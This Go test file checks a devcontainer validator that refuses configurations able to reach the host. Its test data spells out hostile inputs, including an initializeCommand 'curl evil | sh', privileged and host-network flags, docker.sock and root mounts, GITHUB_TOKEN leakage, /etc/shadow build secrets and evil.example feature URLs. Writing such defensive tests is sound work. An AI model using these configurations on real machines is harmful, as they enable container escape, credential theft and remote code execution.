package devcontainer

import (
	"strings"
	"testing"
)

// Each of these would reach the host. Each is refused by the name of its key, and
// allowed by nothing but that name.
func TestDevcontainerHostileConfigurationsAreRefused(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text  string
		key   string
		files map[string]string
		never bool // not even by the operator's word
	}{
		{text: `{"image": "x", "initializeCommand": "curl evil | sh"}`, key: "initializeCommand"},
		{text: `{"image": "x", "initializeCommand": ["sh", "-c", "id"]}`, key: "initializeCommand"},
		{text: `{"image": "x", "initializeCommand": {"a": "id"}}`, key: "initializeCommand"},
		{text: `{"image": "x", /* quiet */ "privileged": true,}`, key: "privileged"},
		{text: `{"image": "x", "privileged": "true"}`, key: "privileged"},
		{text: `{"image": "x", "privileged": false, "privileged": true}`, key: "privileged"},
		{text: `{"image": "x", "\u0070rivileged": true}`, key: "privileged"},
		{text: `{"image": "x", "runArgs": ["--privileged"]}`, key: "runArgs"},
		{text: `{"image": "x", "runArgs": ["--network=host"]}`, key: "runArgs"},
		{text: `{"image": "x", "capAdd": ["SYS_ADMIN"]}`, key: "capAdd"},
		{text: `{"image": "x", "securityOpt": ["seccomp=unconfined"]}`, key: "securityOpt"},
		{text: `{"image": "x", "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]}`, key: "mounts"},
		{text: `{"image": "x", "mounts": [{"source": "/", "target": "/host", "type": "bind"}]}`, key: "mounts"},
		{text: `{"image": "x", "workspaceMount": "source=/,target=/w,type=bind"}`, key: "workspaceMount"},
		{text: `{"image": "x", "appPort": 22}`, key: "appPort"},
		{text: `{"dockerComposeFile": "compose.yml", "service": "a"}`, key: "dockerComposeFile"},
		{text: `{"image": "x", "runServices": ["db"]}`, key: "runServices"},
		{text: `{"image": "x", "somethingNew": true}`, key: "somethingNew"},
		{text: `{"image": "x", "features": {"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {}}}`, key: "docker-outside-of-docker"},
		{text: `{"image": "x", "features": {"ghcr.io/a/Docker-Outside-Of-Docker@sha256:00": {}}}`, key: "docker-outside-of-docker"},
		{text: `{"image": "x", "features": {"docker-from-docker": {}}}`, key: "docker-from-docker"},
		{text: `{"image": "x", "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}}`, key: "docker-in-docker"},
		{text: `{"image": "x", "features": {"http://evil.example/f.tgz": {}}}`, key: "features"},
		{text: `{"image": "x", "features": {"../../elsewhere": {}}}`, key: "features", never: true},
		{text: `{"image": "x", "features": {"/root/f": {}}}`, key: "features", never: true},
		{text: `{"image": "x", "containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}`, key: "localEnv"},
		{text: `{"image": "x", "remoteEnv": {"T": "${env:GITHUB_TOKEN}"}}`, key: "localEnv"},
		{text: `{"image": "x", "remoteEnv": {"T": "\u0024{localEnv:HOME}"}}`, key: "localEnv"},
		{text: `{"build": {"dockerfile": "D", "options": ["--network", "host"]}}`, key: "build.options"},
		{text: `{"build": {"dockerfile": "D", "options": ["--allow=security.insecure"]}}`, key: "build.options"},
		{text: `{"build": {"dockerfile": "D", "cacheFrom": "type=local,src=/root"}}`, key: "build.cacheFrom"},
		{text: `{"build": {"dockerfile": "D", "cacheFrom": "Type=local,src=/root/x"}}`, key: "build.cacheFrom"},
		{text: `{"build": {"dockerfile": "D", "cacheFrom": ["example.com/a:1", "src=/root/x,TYPE=local"]}}`, key: "build.cacheFrom"},
		{text: `{"build": {"dockerfile": "D", "secrets": ["id=a,src=/etc/shadow"]}}`, key: "build.secrets"},
		{text: `{"build": {"dockerfile": "../../Dockerfile"}}`, key: "build.dockerfile", never: true},
		{text: `{"build": {"dockerfile": "/etc/passwd"}}`, key: "build.dockerfile", never: true},
		{text: `{"dockerFile": "gone"}`, key: "build.dockerfile", never: true},
		{text: `{"build": {"dockerfile": "L"}}`, key: "build.dockerfile", never: true, files: map[string]string{".devcontainer/L": "-> ../../outside"}},
		{text: `{"build": {"dockerfile": "D", "context": "../.."}}`, key: "build.context", never: true},
		{text: `{"build": {"dockerfile": "D", "context": "/"}}`, key: "build.context", never: true},
		{text: `{"build": {"dockerfile": "D", "context": "https://evil.example/c.git"}}`, key: "build.context", never: true},
		{text: `{"build": {"dockerfile": "D", "context": "up"}}`, key: "build.context", never: true, files: map[string]string{".devcontainer/up": "-> ../.."}},
		{text: `{"build": {"dockerfile": "I"}}`, key: "RUN --security", files: map[string]string{".devcontainer/I": "FROM x\nRUN --security=insecure id\n"}},
		{text: `{"build": {"dockerfile": "N"}}`, key: "RUN --network", files: map[string]string{".devcontainer/N": "FROM x\nRUN --net\\\nwork=host id\n"}},
		{text: `{"build": {"dockerfile": "R"}}`, key: "RUN --network", files: map[string]string{".devcontainer/R": "FROM x\nRUN --net\\\n\n # a remark\nwork=host id\n"}},
		{text: `{"build": {"dockerfile": "Q"}}`, key: "RUN --network", files: map[string]string{".devcontainer/Q": "FROM x\nRUN --net\"work\"='host' id\n"}},
	} {
		t.Run(c.key+" "+c.text, func(t *testing.T) {
			t.Parallel()
			files := map[string]string{".devcontainer/devcontainer.json": c.text, ".devcontainer/D": "FROM x\n"}
			for name, text := range c.files {
				files[name] = text
			}
			found, err := Find(repository(t, files), "")
			if err != nil {
				t.Fatal(err)
			}
			others := []string{"postCreateCommand", "PRIVILEGED", c.key + "x"}
			code, text := codeOf(found.Refuse(others))
			if code != CodeForbidden || !strings.Contains(text, c.key) {
				t.Errorf("refused with %q: %q; want %s and the key %s", code, text, CodeForbidden, c.key)
			}
			if err := found.Refuse([]string{c.key, "service"}); (err != nil) != c.never {
				t.Errorf("with the operator's word for %s: %v", c.key, err)
			}
		})
	}
}

func TestUsualConfigurationsAreNot(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`{"image": "x", "privileged": false, "runArgs": [], "mounts": null, "init": true, "customizations": {"vscode": {"privileged": true}}}`,
		`{"name": "a", "build": {"dockerfile": "D", "context": "..", "args": {"V": "1"}, "target": "t", "cacheFrom": ["ghcr.io/a/b:1"]}, "remoteUser": "dev"}`,
		`{"image": "x", "features": {"./tool": {}, "ghcr.io/devcontainers/features/go:1": {"version": "1.26"}}, "postCreateCommand": "make deps"}`,
		`{"image": "x", "containerEnv": {"P": "${containerEnv:PATH}", "W": "${containerWorkspaceFolder}"}}`,
	} {
		found, err := Find(repository(t, map[string]string{
			".devcontainer/devcontainer.json": text, ".devcontainer/D": "FROM x\nRUN --mount=type=cache,target=/c id\n", ".devcontainer/tool/install.sh": "",
		}), "")
		if err == nil {
			err = found.Refuse(nil)
		}
		if err != nil {
			t.Errorf("%s: %v", text, err)
		}
	}
}

// What features and images say of themselves is held to the same.
func TestMetadataIsRefusedToo(t *testing.T) {
	t.Parallel()
	for text, key := range map[string]string{
		`[{"id": "a"}, {"privileged": true}]`:            "privileged",
		`[{"mounts": ["source=/,target=/h,type=bind"]}]`: "mounts",
		`{"capAdd": ["ALL"]}`:                            "capAdd",
		`[{"securityOpt": ["label=disable"]}]`:           "securityOpt",
	} {
		if code, said := codeOf(RefuseMetadata("an image", []byte(text), nil)); code != CodeForbidden || !strings.Contains(said, key) {
			t.Errorf("%s: %q %q", text, code, said)
		}
		if err := RefuseMetadata("an image", []byte(text), []string{key}); err != nil {
			t.Errorf("%s, allowed: %v", text, err)
		}
	}
	if err := RefuseMetadata("an image", []byte(`[{"id": "a", "entrypoint": "/e", "remoteUser": "dev", "onCreateCommand": "true"}]`), nil); err != nil {
		t.Error(err)
	}
	if code, _ := codeOf(RefuseMetadata("an image", []byte(`"x"`), nil)); code != CodeConfig {
		t.Errorf("metadata that is none: %q", code)
	}
}
